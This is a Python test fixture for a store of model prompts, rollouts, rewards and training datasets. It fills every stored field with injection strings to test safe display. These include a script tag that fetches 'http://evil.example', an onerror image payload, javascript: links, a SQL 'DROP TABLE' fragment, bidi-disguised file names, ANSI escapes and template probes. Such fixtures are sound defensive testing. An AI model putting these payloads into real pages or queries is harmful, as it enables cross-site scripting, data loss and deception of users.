"""A store in which prompts, answers, names, tokens and datasets all try to do harm when shown."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pyarrow as pa

from s2d_store import ids, prompts
from s2d_store.encoding.topk import to_columns
from s2d_store.store import Store
from tests.support.audit_rows import scores
from tests.support.synthetic import NOW, policy, table

SCRIPT = "<script>document.title='owned';fetch('http://evil.example')</script>"
IMAGE = "<img src=x onerror=\"document.title='owned'\">"
FORMULA = r"\(\text{<img src=x onerror=alert(1)>}\) $\href{javascript:alert(1)}{x}$ $$\frac{1$$"
ANSI = "\x1b[31mred\x1b[2J\x07"
TURNED = "\u202etxt.exe\u202c \u2066hidden\u2069"
QUOTES = "'; DROP TABLE rollouts; --\" onmouseover=\"document.title='owned'"
TEMPLATE = "{{ 7 * 7 }} {% raw %} ${7*7}"
ALL = (SCRIPT, IMAGE, FORMULA, ANSI, TURNED, QUOTES, TEMPLATE)
NAME = f"student{SCRIPT}{TURNED}"
TOKENS = (*ALL, "\n", "x" * 2**20, "\u0645\u0631\u062d\u0628\u0627", "</span></div>", " ")


def make(root: Path) -> Store:
    """One prompt, two policies, four graded and scored rollouts, one trained dataset."""
    store = Store.init(root)
    whole = " ".join(ALL)
    record = {"question": whole, "answer": whole}
    prompts.add(store, [("record", record)], prompts.PromptOptions(source=SCRIPT, split=IMAGE))
    (prompt,) = store.sql("SELECT prompt_id FROM prompts").fetchall()[0]
    words = [
        {"tokenizer_fingerprint": "tok", "token_id": i, "token": token}
        for i, token in enumerate(TOKENS)
    ]
    store.commit({"vocabularies": table("vocabularies", words)})
    teacher = policy("teacher")
    student = policy("student", parent=teacher["policy_id"]) | {"name": NAME, "run_id": "train"}
    store.commit({"policies": table("policies", [teacher, student])})
    rollouts = [
        {
            "rollout_id": ids.rollout_id("run", prompt, name["policy_id"], index, 0),
            "role": "student",
            "run_id": "run",
            "policy_id": name["policy_id"],
            "prompt_id": prompt,
            "purpose": purpose,
            "round": 0,
            "sample_index": index,
            "temperature": 1.0,
            "top_p": 1.0,
            "top_k": 0,
            "max_tokens": 64,
            "seed": 0,
            "engine": "vllm",
            "engine_version": IMAGE,
            "prompt_token_ids": [1],
            "prompt_tokens": 1,
            "response_text": "".join(TOKENS),
            "response_token_ids": list(range(len(TOKENS))),
            "response_logprobs": [-1.5] * len(TOKENS),
            "response_tokens": len(TOKENS),
            "finish_reason": "length",
            "created_at": NOW,
        }
        for name, purpose, index in (
            (student, "train", 0),
            (student, "eval", 1),
            (teacher, "eval", 1),
            (teacher, "train", 0),
        )
    ]
    store.commit({"rollouts": table("rollouts", rollouts)})
    rewards = [
        {
            "rollout_id": row["rollout_id"],
            "verifier": "math-verify",
            "verifier_version": f"1{IMAGE}",
            "reward": float(i % 2),
            "outcome": ("wrong", "correct")[i % 2],
            "extracted": whole,
            "detail": whole,
            "seconds": 0.1,
            "run_id": "verify",
            "created_at": NOW,
        }
        for i, row in enumerate(rollouts)
    ]
    store.commit({"rewards": table("rewards", rewards)})
    _score(store, teacher["policy_id"], [row["rollout_id"] for row in rollouts])
    _train(store, rollouts[0]["rollout_id"], prompt)
    return store


def _score(store: Store, scorer: str, rollouts: list[str]) -> None:
    import numpy as np

    rows = [scores(np.arange(len(TOKENS), dtype=np.int32), -1.0) for _ in rollouts]
    columns = to_columns(rows) | {
        "rollout_id": pa.array(rollouts),
        "scorer_policy_id": pa.array([scorer] * len(rollouts)),
        "support": pa.array(["own"] * len(rollouts)),
        "run_id": pa.array(["score"] * len(rollouts)),
        "created_at": pa.array([NOW] * len(rollouts), pa.timestamp("us", tz="UTC")),
    }
    store.commit({"topk": pa.table(columns)})


def _train(store: Store, rollout: str, prompt: str) -> None:
    whole = " ".join(ALL)
    lock = {"name": whole, "kind": SCRIPT, "query": whole, "query_sql": whole, "seed": 0}
    lock |= {"params": {SCRIPT: whole}, "counts": {"rows": 1, IMAGE: 1}, "fingerprint": whole}
    row: dict[str, Any] = {"dataset_id": "d", "name": whole, "query": "grpo", "fingerprint": whole}
    row |= {"lock": json.dumps(lock), "created_at": NOW}
    light = {"dataset_id": "d", "row": 0, "update": 1, "rollout_id": rollout, "prompt_id": prompt}
    store.commit(
        {
            "datasets": table("datasets", [row]),
            "dataset_rows": table("dataset_rows", [light | {"labelled": True}]),
        }
    )
    run: dict[str, Any] = {
        "run_id": "train",
        "kind": "train",
        "stage": f"grpo{SCRIPT}",
        "recipe": whole,
    }
    run |= {"status": "done", "config": "{}", "code_version": "1", "parents": [], "entered_at": NOW}
    figures = dict.fromkeys(("loss", "kl", "entropy", "topk_mass", "grad_norm", "lr", "seconds"), 1)
    update = {"run_id": "train", "update": 1, "dataset_id": "d", "rows": 1, "labels": 1}
    update |= {"prompt_tokens": 1, "response_tokens": 2, "clip_fraction": None} | figures
    store.commit({"runs": table("runs", [run]), "updates": table("updates", [update])})
